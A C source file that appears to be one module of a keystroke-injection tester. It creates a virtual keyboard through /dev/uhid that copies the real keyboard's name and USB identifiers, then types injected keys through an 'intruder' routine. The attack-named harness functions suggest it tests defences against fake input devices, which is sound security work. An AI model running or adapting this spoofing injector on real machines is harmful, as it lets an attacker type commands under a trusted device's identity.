// SPDX-License-Identifier: Apache-2.0
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <linux/uhid.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "hid.h"
#include "intruder.h"
#include "report.h"
#include "uhid.h"
#include "uinput.h"

static int create(int fd)
{
	struct uhid_event event = { .type = UHID_CREATE2 };
	struct uhid_create2_req *request = &event.u.create2;
	struct input_id id = { .bustype = BUS_USB };
	char name[80] = "keyboard";

	uinput_copy_real(name, sizeof(name), &id);
	snprintf((char *)request->name, sizeof(request->name), "%s", name);
	request->bus = id.bustype;
	request->vendor = id.vendor;
	request->product = id.product;
	request->version = id.version;
	request->rd_size = HID_DESCRIPTOR_SIZE;
	memcpy(request->rd_data, hid_descriptor, HID_DESCRIPTOR_SIZE);
	return write(fd, &event, sizeof(event)) == sizeof(event) ? 0 : -errno;
}

static int uhid_keyboard(void)
{
	int fd = open("/dev/uhid", O_RDWR | O_CLOEXEC | O_NONBLOCK);
	int ret;

	if (fd < 0)
		return -errno;
	ret = create(fd);
	if (ret) {
		close(fd);
		return ret;
	}
	attack_wait(300);
	return fd;
}

static void send(int fd, char key)
{
	struct uhid_event event = { .type = UHID_INPUT2, .u.input2.size = HID_REPORT_SIZE };

	hid_report(event.u.input2.data, key);
	(void)!write(fd, &event, sizeof(event));
	attack_wait(30);
	/* What the kernel has to say (start, open, LEDs) needs no answer. */
	while (read(fd, &event, sizeof(event)) > 0)
		;
}

static void press(void *fd, char key)
{
	send(*(int *)fd, key);
	send(*(int *)fd, 0);
}

void uhid_intrude(void)
{
	int fd;

	attack_init();
	fd = uhid_keyboard();
	attack_ready();
	if (fd < 0)
		attack_failed("no keyboard can be made: %s", strerror(-fd));
	intruder_type(press, &fd);
}
